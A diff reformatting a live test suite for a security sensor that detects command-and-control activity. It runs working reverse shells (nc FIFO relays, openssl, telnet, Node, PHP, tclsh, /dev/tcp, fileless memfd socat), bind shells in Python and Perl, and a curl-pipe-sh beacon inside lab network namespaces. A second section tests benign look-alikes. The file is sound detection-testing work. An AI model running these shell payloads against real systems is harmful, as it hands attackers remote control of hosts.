@@ -23,8 +23,15 @@ from tests.helpers.proof import assert_sensor_saw
 from tests.live.corpus import record_case
 
 PAYLOAD = b"echo cw-$((6*7))\nexit\n"
-C2 = {"reverse_shell", "bind_shell", "stdio_to_socket", "c2_beacon", "interpreter_reverse_shell", "tunnel_tool",
-      "irc_connection"}
+C2 = {
+    "reverse_shell",
+    "bind_shell",
+    "stdio_to_socket",
+    "c2_beacon",
+    "interpreter_reverse_shell",
+    "tunnel_tool",
+    "irc_connection",
+}
 
 
 def c2_alerts(alerts: list[dict]) -> list[dict]:
@@ -33,7 +40,7 @@ def c2_alerts(alerts: list[dict]) -> list[dict]:
 
 CONTEXTS = ["plain", "ci"]
 # A stand-in GitHub Actions runner: the context root by its executable's name; it runs the step as a child.
-RUNNER = "#!/bin/bash\nbash -c \"$1\"\n"
+RUNNER = '#!/bin/bash\nbash -c "$1"\n'
 
 
 def in_context(command: str, context: str) -> str:
@@ -60,17 +67,31 @@ def case_name() -> str:
     return "".join(c if c.isalnum() or c in "-_" else "_" for c in name).strip("_")
 
 
-def reverse(sensorlab, netlab, command: str, *, family: int = 4, signal: str = "reverse_shell",
-            payload: bytes = PAYLOAD, expect: bytes = b"cw-42", timeout: float = 15, context: str = "plain",
-            replay_signal: str | None = None) -> dict:
+def reverse(
+    sensorlab,
+    netlab,
+    command: str,
+    *,
+    family: int = 4,
+    signal: str = "reverse_shell",
+    payload: bytes = PAYLOAD,
+    expect: bytes = b"cw-42",
+    timeout: float = 15,
+    context: str = "plain",
+    replay_signal: str | None = None,
+) -> dict:
     """Run ``command`` ({host}, {port}) in the victim against a listener; one incident, right destination."""
     port = netlab.port()
     host = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
     listener = netlab.listen_tcp(netlab.attacker_ns, port, family=family, payload=payload, duration=timeout)
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     command, token = tagged(command.format(host=host, port=port))
-    netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
-                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    netlab.spawn(
+        netlab.victim_ns,
+        ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     received = listener.wait(timeout=timeout + 5)
     assert expect in received, received
     alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
@@ -104,8 +125,13 @@ def test_mknod_fifo_relay_ipv6(sensorlab, netlab, tmp_path, ctx) -> None:
     """The same relay made with `mknod p`, over IPv6."""
     require_tools("nc.openbsd")
     f = _fifo(tmp_path)
-    reverse(sensorlab, netlab, f"rm -f {f}; mknod {f} p; cat {f} | /bin/sh -i 2>&1 | nc.openbsd -q 1 {{host}} "
-            f"{{port}} > {f}", family=6, context=ctx)
+    reverse(
+        sensorlab,
+        netlab,
+        f"rm -f {f}; mknod {f} p; cat {f} | /bin/sh -i 2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}",
+        family=6,
+        context=ctx,
+    )
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
@@ -113,8 +139,12 @@ def test_busybox_nc_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     """busybox nc with a FIFO."""
     require_tools("busybox")
     f = _fifo(tmp_path)
-    reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | busybox nc {{host}} {{port}} > {f}",
-            context=ctx)
+    reverse(
+        sensorlab,
+        netlab,
+        f"rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | busybox nc {{host}} {{port}} > {f}",
+        context=ctx,
+    )
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
@@ -129,8 +159,12 @@ def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     """`sh -i < f 2>&1 | nc H P > f`: the FIFO on the shell's own stdin, written by nc."""
     require_tools("nc.openbsd")
     f = _fifo(tmp_path)
-    reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | nc.openbsd -q 1 {{host}} {{port}} "
-            f"> {f}", context=ctx)
+    reverse(
+        sensorlab,
+        netlab,
+        f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}",
+        context=ctx,
+    )
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
@@ -138,21 +172,63 @@ def test_openssl_s_client_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     """`sh -i < f 2>&1 | openssl s_client -quiet -connect H:P > f` against a TLS attacker (openssl s_server)."""
     require_tools("openssl")
     key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
-    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
-                    "-subj", "/CN=lab", "-days", "1", "-keyout", str(key), "-out", str(cert)], check=True,
-                   capture_output=True, timeout=30)
+    subprocess.run(
+        [
+            "openssl",
+            "req",
+            "-x509",
+            "-newkey",
+            "ec",
+            "-pkeyopt",
+            "ec_paramgen_curve:prime256v1",
+            "-nodes",
+            "-subj",
+            "/CN=lab",
+            "-days",
+            "1",
+            "-keyout",
+            str(key),
+            "-out",
+            str(cert),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=30,
+    )
     port = netlab.port()
     host = netlab.attacker_ip4
-    server = netlab.spawn(netlab.attacker_ns, ["timeout", "20", "openssl", "s_server", "-quiet", "-key", str(key),
-                                               "-cert", str(cert), "-accept", f"{host}:{port}"],
-                          stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
+    server = netlab.spawn(
+        netlab.attacker_ns,
+        [
+            "timeout",
+            "20",
+            "openssl",
+            "s_server",
+            "-quiet",
+            "-key",
+            str(key),
+            "-cert",
+            str(cert),
+            "-accept",
+            f"{host}:{port}",
+        ],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+    )
     time.sleep(1.0)
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     f = _fifo(tmp_path)
-    command, token = tagged(f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | openssl s_client -quiet -connect "
-                            f"{host}:{port} > {f} 2>/dev/null")
-    netlab.spawn(netlab.victim_ns, ["timeout", "12", "bash", "-c", in_context(command, ctx)],
-                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    command, token = tagged(
+        f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | openssl s_client -quiet -connect "
+        f"{host}:{port} > {f} 2>/dev/null"
+    )
+    netlab.spawn(
+        netlab.victim_ns,
+        ["timeout", "12", "bash", "-c", in_context(command, ctx)],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     assert server.stdin is not None and server.stdout is not None
     server.stdin.write(b"echo cw-$((6*7))\nsleep 1\nexit\n")
     server.stdin.flush()
@@ -162,6 +238,7 @@ def test_openssl_s_client_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     def answered() -> bool:
         got.extend(server.stdout.read() or b"")
         return b"cw-42" in got
+
     wait_until(answered, timeout=15, interval=0.2)
     assert b"cw-42" in got, got
     groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
@@ -174,9 +251,11 @@ def test_openssl_s_client_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
 
 # A one-shot attacker: accept one connection, type the payload, hang up after a second (a telnet client whose
 # stdout is a pipe shows what it received when the peer hangs up).
-ONE_SHOT = ("import socket,sys,time\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
-            "s.bind((sys.argv[1],int(sys.argv[2])));s.listen(1);s.settimeout(15)\nc,_=s.accept()\n"
-            "c.sendall(bytes.fromhex(sys.argv[3]));time.sleep(1.5);c.close()")
+ONE_SHOT = (
+    "import socket,sys,time\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
+    "s.bind((sys.argv[1],int(sys.argv[2])));s.listen(1);s.settimeout(15)\nc,_=s.accept()\n"
+    "c.sendall(bytes.fromhex(sys.argv[3]));time.sleep(1.5);c.close()"
+)
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
@@ -193,10 +272,15 @@ def test_telnet_pair(sensorlab, netlab, ctx) -> None:
     netlab.spawn(netlab.attacker_ns, [sys.executable, "-c", ONE_SHOT, host, str(port), typed.hex()])
     time.sleep(0.8)
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
-    command, token = tagged(f"sleep 8 | telnet {host} {port} 2>/dev/null | /bin/sh 2>&1 | telnet {host} {out_port} "
-                            ">/dev/null 2>&1")
-    netlab.spawn(netlab.victim_ns, ["timeout", "12", "bash", "-c", in_context(command, ctx)],
-                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    command, token = tagged(
+        f"sleep 8 | telnet {host} {port} 2>/dev/null | /bin/sh 2>&1 | telnet {host} {out_port} >/dev/null 2>&1"
+    )
+    netlab.spawn(
+        netlab.victim_ns,
+        ["timeout", "12", "bash", "-c", in_context(command, ctx)],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     assert b"cw-42" in sink.wait(timeout=20)
     groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
     assert len(groups) == 1
@@ -206,9 +290,11 @@ def test_telnet_pair(sensorlab, netlab, ctx) -> None:
     record_case(sensorlab, case_name(), emark, token, {"signal": "reverse_shell", "port": port})
 
 
-NODE = ("node -e '(function(){{var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);"
-        "var c=new net.Socket();c.connect({port},\"{host}\",function(){{c.pipe(sh.stdin);sh.stdout.pipe(c);"
-        "sh.stderr.pipe(c);}});sh.on(\"exit\",function(){{c.end();}});}})();'")
+NODE = (
+    'node -e \'(function(){{var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);'
+    'var c=new net.Socket();c.connect({port},"{host}",function(){{c.pipe(sh.stdin);sh.stdout.pipe(c);'
+    'sh.stderr.pipe(c);}});sh.on("exit",function(){{c.end();}});}})();\''
+)
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
@@ -222,8 +308,10 @@ def test_node_net_child_process(sensorlab, netlab, ctx) -> None:
 def test_php_shell_exec_loop(sensorlab, netlab, ctx) -> None:
     """A PHP loop reading commands from a socket and answering with shell_exec: one alert for the loop."""
     require_tools("php")
-    code = ('$s=fsockopen("{host}",{port});while(($c=fgets($s))!==false){{if(trim($c)=="exit")break;'
-            'fwrite($s,shell_exec($c));}}')
+    code = (
+        '$s=fsockopen("{host}",{port});while(($c=fgets($s))!==false){{if(trim($c)=="exit")break;'
+        "fwrite($s,shell_exec($c));}}"
+    )
     alert = reverse(sensorlab, netlab, f"php -r '{code}'", context=ctx)
     assert alert["process"]["name"].startswith("php")
 
@@ -232,8 +320,10 @@ def test_php_shell_exec_loop(sensorlab, netlab, ctx) -> None:
 def test_tclsh_socket_loop(sensorlab, netlab, ctx) -> None:
     """A tclsh socket loop that execs each command it reads (fed its script on stdin)."""
     require_tools("tclsh")
-    script = ('set s [socket {host} {port}];while {{[gets $s c] >= 0}} {{if {{$c eq "exit"}} break;'
-              'catch {{exec sh -c $c}} r;puts $s $r;flush $s}};close $s')
+    script = (
+        'set s [socket {host} {port}];while {{[gets $s c] >= 0}} {{if {{$c eq "exit"}} break;'
+        "catch {{exec sh -c $c}} r;puts $s $r;flush $s}};close $s"
+    )
     reverse(sensorlab, netlab, f"echo '{script}' | tclsh", context=ctx)
 
 
@@ -242,8 +332,13 @@ def test_python_pty_relay_through_nc(sensorlab, netlab, tmp_path, ctx) -> None:
     """python pty.spawn behind a FIFO relay to nc: sh on a pty whose master python holds."""
     require_tools("nc.openbsd")
     f = _fifo(tmp_path)
-    reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; cat {f} | python3 -c 'import pty; pty.spawn(\"/bin/sh\")' "
-            f"2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}", context=ctx)
+    reverse(
+        sensorlab,
+        netlab,
+        f"rm -f {f}; mkfifo {f}; cat {f} | python3 -c 'import pty; pty.spawn(\"/bin/sh\")' "
+        f"2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}",
+        context=ctx,
+    )
 
 
 def test_relay_inside_npm_context(sensorlab, netlab, tmp_path) -> None:
@@ -252,10 +347,10 @@ def test_relay_inside_npm_context(sensorlab, netlab, tmp_path) -> None:
     f = _fifo(tmp_path)
     # A process whose exec the context rules recognise as `npm install`: a shell script named npm.
     npm = tmp_path / "npm"
-    npm.write_text("#!/bin/bash\nshift\nbash -c \"$1\"\n")  # the step runs as npm's child, as hooks do
+    npm.write_text('#!/bin/bash\nshift\nbash -c "$1"\n')  # the step runs as npm's child, as hooks do
     npm.chmod(0o755)
     relay = FIFO_RELAY.format(f=f).replace("nc ", "nc.openbsd -q 1 ", 1)
-    alert = reverse(sensorlab, netlab, f"{npm} install \"{relay}\"")
+    alert = reverse(sensorlab, netlab, f'{npm} install "{relay}"')
     assert alert["supply_chain"]["context"] == "package_install_npm"
 
 
@@ -288,13 +383,19 @@ def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 1
     victim = netlab.victim_ip6 if family == 6 else netlab.victim_ip4
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     command, token = tagged(command.format(port=port))
-    netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
-                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    netlab.spawn(
+        netlab.victim_ns,
+        ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
 
     def attacker_session() -> bytes:
-        res = netlab.run(netlab.attacker_ns, [sys.executable, "-c", ATTACKER_CLIENT, victim, str(port), PAYLOAD.hex()],
-                         timeout=10)
+        res = netlab.run(
+            netlab.attacker_ns, [sys.executable, "-c", ATTACKER_CLIENT, victim, str(port), PAYLOAD.hex()], timeout=10
+        )
         return res.stdout if b"cw-42" in (res.stdout or b"") else b""
+
     got = wait_until(attacker_session, timeout=timeout, interval=0.3)
     assert b"cw-42" in got
     alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
@@ -329,18 +430,22 @@ def test_bind_socat(sensorlab, netlab, ctx) -> None:
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_bind_python_pty(sensorlab, netlab, ctx) -> None:
     """python accept + dup2 + pty.spawn."""
-    code = ('import socket,os,pty;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);'
-            's.bind(("0.0.0.0",{port}));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];'
-            'pty.spawn("/bin/sh")')
+    code = (
+        "import socket,os,pty;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
+        's.bind(("0.0.0.0",{port}));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];'
+        'pty.spawn("/bin/sh")'
+    )
     bind(sensorlab, netlab, f"python3 -c '{code}'", context=ctx)
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_bind_perl(sensorlab, netlab, ctx) -> None:
     """perl accept + open STDIN/STDOUT on the socket + exec sh."""
-    code = ('use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);'
-            'bind(S,sockaddr_in({port},INADDR_ANY));listen(S,1);accept(C,S);open(STDIN,"<&C");open(STDOUT,">&C");'
-            'open(STDERR,">&C");exec("/bin/sh -i");')
+    code = (
+        'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);'
+        'bind(S,sockaddr_in({port},INADDR_ANY));listen(S,1);accept(C,S);open(STDIN,"<&C");open(STDOUT,">&C");'
+        'open(STDERR,">&C");exec("/bin/sh -i");'
+    )
     bind(sensorlab, netlab, f"perl -e '{code}'", context=ctx)
 
 
@@ -360,20 +465,30 @@ def test_bind_ncat_ipv6(sensorlab, netlab, ctx) -> None:
 
 # ------------------------------------------------------------------ beacon
 
+
 def test_curl_polling_beacon(sensorlab, netlab) -> None:
     """`while :; do curl -s http://H:P/c | sh; sleep 1; done` gives one C2 beacon alert with the destination."""
     require_tools("curl")
     port = netlab.port()
-    www = netlab.spawn(netlab.attacker_ns, [sys.executable, "-c", (
-        "import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n def do_GET(s):\n"
-        "  b=b'echo cw-beacon\\n';s.send_response(200);"
-        "s.send_header('Content-Length',str(len(b)));s.end_headers();"
-        "s.wfile.write(b)\n def log_message(s,*a): pass\n"
-        f"h.HTTPServer(('{netlab.attacker_ip4}',{port}),H).serve_forever()")])
+    www = netlab.spawn(
+        netlab.attacker_ns,
+        [
+            sys.executable,
+            "-c",
+            (
+                "import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n def do_GET(s):\n"
+                "  b=b'echo cw-beacon\\n';s.send_response(200);"
+                "s.send_header('Content-Length',str(len(b)));s.end_headers();"
+                "s.wfile.write(b)\n def log_message(s,*a): pass\n"
+                f"h.HTTPServer(('{netlab.attacker_ip4}',{port}),H).serve_forever()"
+            ),
+        ],
+    )
     time.sleep(0.8)
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
-    command, token = tagged(f"for i in 1 2 3; do curl -s -m 3 http://{netlab.attacker_ip4}:{port}/c | sh; sleep 1; "
-                            "done")
+    command, token = tagged(
+        f"for i in 1 2 3; do curl -s -m 3 http://{netlab.attacker_ip4}:{port}/c | sh; sleep 1; done"
+    )
     netlab.run(netlab.victim_ns, ["timeout", "8", "bash", "-c", command], timeout=15)
     www.kill()
     alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
@@ -386,8 +501,19 @@ def test_curl_polling_beacon(sensorlab, netlab) -> None:
 
 # ------------------------------------------------------------------ benign
 
-def benign(sensorlab, netlab, command: str, *, exe: str, port: int | None = None, server: list[str] | None = None,
-           ns: str | None = None, timeout: float = 15, context: str = "plain") -> list[dict]:
+
+def benign(
+    sensorlab,
+    netlab,
+    command: str,
+    *,
+    exe: str,
+    port: int | None = None,
+    server: list[str] | None = None,
+    ns: str | None = None,
+    timeout: float = 15,
+    context: str = "plain",
+) -> list[dict]:
     """Run ``command`` in the victim; prove the sensor saw ``exe`` exec and connect to the lab; return alerts."""
     port = port or netlab.port()
     if server is not None:
@@ -397,8 +523,11 @@ def benign(sensorlab, netlab, command: str, *, exe: str, port: int | None = None
         netlab.listen_tcp(netlab.attacker_ns, port, payload=b"220 lab ready\r\n", duration=timeout, max_conns=5)
     mark, amark = sensorlab.mark(), sensorlab.alert_mark()
     command, token = tagged(command.format(host=netlab.attacker_ip4, port=port))
-    netlab.run(ns or netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
-               timeout=timeout + 5)
+    netlab.run(
+        ns or netlab.victim_ns,
+        ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
+        timeout=timeout + 5,
+    )
     assert_sensor_saw(sensorlab, mark, exe=exe, port=port)
     alerts = mine(sensorlab.alerts_since(amark, settle=1.0), token)
     record_case(sensorlab, case_name(), mark, token, {"quiet": True})
@@ -406,8 +535,11 @@ def benign(sensorlab, netlab, command: str, *, exe: str, port: int | None = None
 
 
 def quiet(alerts: list[dict]) -> None:
-    bad = [(a["rule"]["name"], a["event"]["reason"]) for a in alerts
-           if C2 & set(a["chainwatch"]["signals"]) or a["event"]["severity"] > 21]
+    bad = [
+        (a["rule"]["name"], a["event"]["reason"])
+        for a in alerts
+        if C2 & set(a["chainwatch"]["signals"]) or a["event"]["severity"] > 21
+    ]
     assert bad == []
     for a in alerts:  # notices never call themselves what they are not
         text = (a["rule"]["name"] + " " + a["event"]["reason"]).lower()
@@ -417,28 +549,51 @@ def quiet(alerts: list[dict]) -> None:
 def test_benign_busybox_wget(sensorlab, netlab) -> None:
     """`busybox wget` is wget, not a shell (Debian's busybox 1.35 wget crashes with -T: timeout bounds it)."""
     require_tools("busybox")
-    quiet(benign(sensorlab, netlab, "timeout 5 busybox wget -q -O /dev/null http://{host}:{port}/; true",
-                 exe="busybox", server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]))
+    quiet(
+        benign(
+            sensorlab,
+            netlab,
+            "timeout 5 busybox wget -q -O /dev/null http://{host}:{port}/; true",
+            exe="busybox",
+            server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"],
+        )
+    )
 
 
 def test_benign_openssl_certificate_check_pipe(sensorlab, netlab) -> None:
     """`openssl s_client -connect H:P </dev/null | openssl x509 -noout -enddate`: a pipe is not a relay."""
-    quiet(benign(sensorlab, netlab, "openssl s_client -connect {host}:{port} </dev/null 2>/dev/null | "
-                 "openssl x509 -noout -enddate 2>/dev/null; true", exe="openssl"))
+    quiet(
+        benign(
+            sensorlab,
+            netlab,
+            "openssl s_client -connect {host}:{port} </dev/null 2>/dev/null | "
+            "openssl x509 -noout -enddate 2>/dev/null; true",
+            exe="openssl",
+        )
+    )
 
 
 def test_benign_telnet_banner(sensorlab, netlab, tmp_path) -> None:
     """`(echo QUIT) | telnet H 25 > banner.txt`."""
     require_tools("telnet")
-    quiet(benign(sensorlab, netlab, f"(echo QUIT; sleep 1) | telnet {{host}} {{port}} > {tmp_path}/banner.txt 2>&1; "
-                 "true", exe="telnet"))
+    quiet(
+        benign(
+            sensorlab,
+            netlab,
+            f"(echo QUIT; sleep 1) | telnet {{host}} {{port}} > {tmp_path}/banner.txt 2>&1; true",
+            exe="telnet",
+        )
+    )
 
 
-@pytest.mark.parametrize("probe", [
-    "timeout 1 bash -c 'echo > /dev/tcp/{host}/{port}'",
-    "(exec 3<>/dev/tcp/{host}/{port})",
-    "for i in 1 2 3; do (echo > /dev/tcp/{host}/{port}) 2>/dev/null && break; sleep 0.2; done",
-])
+@pytest.mark.parametrize(
+    "probe",
+    [
+        "timeout 1 bash -c 'echo > /dev/tcp/{host}/{port}'",
+        "(exec 3<>/dev/tcp/{host}/{port})",
+        "for i in 1 2 3; do (echo > /dev/tcp/{host}/{port}) 2>/dev/null && break; sleep 0.2; done",
+    ],
+)
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_benign_port_probes(sensorlab, netlab, probe, ctx) -> None:
     """Wait-for-service probes, plain and as a CI step: at most a notice that does not call itself a reverse
@@ -448,26 +603,47 @@ def test_benign_port_probes(sensorlab, netlab, probe, ctx) -> None:
 
 def test_benign_curl_pipe_sh_outside_context(sensorlab, netlab) -> None:
     """`curl … | sh` once, outside any context: at most a download notice."""
-    quiet(benign(sensorlab, netlab, "curl -s -m 3 http://{host}:{port}/ | sh >/dev/null 2>&1; true", exe="curl",
-                 server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]))
+    quiet(
+        benign(
+            sensorlab,
+            netlab,
+            "curl -s -m 3 http://{host}:{port}/ | sh >/dev/null 2>&1; true",
+            exe="curl",
+            server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"],
+        )
+    )
 
 
 def test_benign_local_mkfifo_pipeline(sensorlab, netlab, tmp_path) -> None:
     """A local mkfifo pipeline feeding a shell, with an unrelated curl in the same script: nothing."""
     f = tmp_path / "p"
-    quiet(benign(sensorlab, netlab, f"mkfifo {f}; (echo 'echo hi' > {f} &); sh < {f} > /dev/null; "
-                 "curl -s -m 3 -o /dev/null http://{host}:{port}/; rm -f " + str(f), exe="curl",
-                 server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]))
+    quiet(
+        benign(
+            sensorlab,
+            netlab,
+            f"mkfifo {f}; (echo 'echo hi' > {f} &); sh < {f} > /dev/null; "
+            "curl -s -m 3 -o /dev/null http://{host}:{port}/; rm -f " + str(f),
+            exe="curl",
+            server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"],
+        )
+    )
 
 
 def test_benign_script_and_tmux(sensorlab, netlab) -> None:
     """`script -qc` and a tmux session running a command that connects out: nothing."""
     require_tools("script", "tmux")
     sock = f"/tmp/cw-tmux-{os.getpid()}"
-    quiet(benign(sensorlab, netlab, "script -qc 'curl -s -m 3 -o /dev/null http://{host}:{port}/' /dev/null; "
-                 f"tmux -S {sock} new-session -d 'curl -s -m 3 -o /dev/null http://{{host}}:{{port}}/'; sleep 2; "
-                 f"tmux -S {sock} kill-server 2>/dev/null; rm -f {sock}; true", exe="curl",
-                 server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]))
+    quiet(
+        benign(
+            sensorlab,
+            netlab,
+            "script -qc 'curl -s -m 3 -o /dev/null http://{host}:{port}/' /dev/null; "
+            f"tmux -S {sock} new-session -d 'curl -s -m 3 -o /dev/null http://{{host}}:{{port}}/'; sleep 2; "
+            f"tmux -S {sock} kill-server 2>/dev/null; rm -f {sock}; true",
+            exe="curl",
+            server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"],
+        )
+    )
 
 
 SSHD_CONFIG = """Port {port}
@@ -492,20 +668,43 @@ def test_benign_inbound_ssh_login_with_pty_and_outbound_ssh_tt(sensorlab, netlab
         skip_or_fail("openssh-server is not installed (make setup installs it)")
     port = netlab.port()
     d = tmp_path
-    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "host_ed25519")], check=True,
-                   timeout=30)
+    subprocess.run(
+        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "host_ed25519")], check=True, timeout=30
+    )
     subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "client")], check=True, timeout=30)
     (d / "authorized_keys").write_text((d / "client.pub").read_text())
     (d / "sshd_config").write_text(SSHD_CONFIG.format(port=port, addr=netlab.victim_ip4, dir=d))
     os.makedirs("/run/sshd", exist_ok=True)
-    netlab.spawn(netlab.victim_ns, [sshd, "-D", "-e", "-f", str(d / "sshd_config")],
-                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    netlab.spawn(
+        netlab.victim_ns,
+        [sshd, "-D", "-e", "-f", str(d / "sshd_config")],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     time.sleep(1.0)
     mark, amark = sensorlab.mark(), sensorlab.alert_mark()
-    res = netlab.run(netlab.attacker_ns, ["timeout", "20", "ssh", "-tt", "-i", str(d / "client"), "-p", str(port),
-                                          "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
-                                          "-o", "BatchMode=yes", f"root@{netlab.victim_ip4}",
-                                          "echo cw-$((6*7)); exit"], timeout=30)
+    res = netlab.run(
+        netlab.attacker_ns,
+        [
+            "timeout",
+            "20",
+            "ssh",
+            "-tt",
+            "-i",
+            str(d / "client"),
+            "-p",
+            str(port),
+            "-o",
+            "StrictHostKeyChecking=no",
+            "-o",
+            "UserKnownHostsFile=/dev/null",
+            "-o",
+            "BatchMode=yes",
+            f"root@{netlab.victim_ip4}",
+            "echo cw-$((6*7)); exit",
+        ],
+        timeout=30,
+    )
     assert b"cw-42" in (res.stdout or b""), res
     assert_sensor_saw(sensorlab, mark, exe="sshd", port=port)
     quiet(sensorlab.alerts_since(amark, settle=1.5))
@@ -513,17 +712,21 @@ def test_benign_inbound_ssh_login_with_pty_and_outbound_ssh_tt(sensorlab, netlab
 
 # ------------------------------------------------------------------ executables by what they are
 
+
 def test_renamed_copy_of_bash_is_bash(sensorlab, netlab, tmp_path) -> None:
     """A copy of bash under another name, used for the /dev/tcp reverse shell, is recognised by its content."""
     fake = tmp_path / "kworker"
     shutil.copy("/usr/bin/bash", fake)
-    alert = reverse(sensorlab, netlab, f"{fake} -c '{fake} -i >& /dev/tcp/{{host}}/{{port}} 0>&1'",
-                    signal="stdio_to_socket")
+    alert = reverse(
+        sensorlab, netlab, f"{fake} -c '{fake} -i >& /dev/tcp/{{host}}/{{port}} 0>&1'", signal="stdio_to_socket"
+    )
     assert alert["process"]["executable"] == str(fake)
 
 
-MEMFD_SOCAT = ("import os,sys;fd=os.memfd_create('svc');os.write(fd,open('/usr/bin/socat','rb').read());"
-               "os.execve(f'/proc/self/fd/{{fd}}',['svc','TCP:{host}:{port}','EXEC:/bin/sh'],dict(os.environ))")
+MEMFD_SOCAT = (
+    "import os,sys;fd=os.memfd_create('svc');os.write(fd,open('/usr/bin/socat','rb').read());"
+    "os.execve(f'/proc/self/fd/{{fd}}',['svc','TCP:{host}:{port}','EXEC:/bin/sh'],dict(os.environ))"
+)
 
 
 def test_memfd_socat_is_socat_and_fileless(sensorlab, netlab) -> None:
@@ -531,26 +734,33 @@ def test_memfd_socat_is_socat_and_fileless(sensorlab, netlab) -> None:
     require_tools("socat")
     # The content is read from /proc/PID/exe while the process runs: the attacker's session lasts a moment.
     # Replay has no /proc to read the content from: there the relay through socat's socketpair is the verdict.
-    alert = reverse(sensorlab, netlab, f"python3 -c \"{MEMFD_SOCAT}\"", signal="tunnel_tool",
-                    payload=b"echo cw-$((6*7))\nsleep 2\nexit\n", replay_signal="reverse_shell")
+    alert = reverse(
+        sensorlab,
+        netlab,
+        f'python3 -c "{MEMFD_SOCAT}"',
+        signal="tunnel_tool",
+        payload=b"echo cw-$((6*7))\nsleep 2\nexit\n",
+        replay_signal="reverse_shell",
+    )
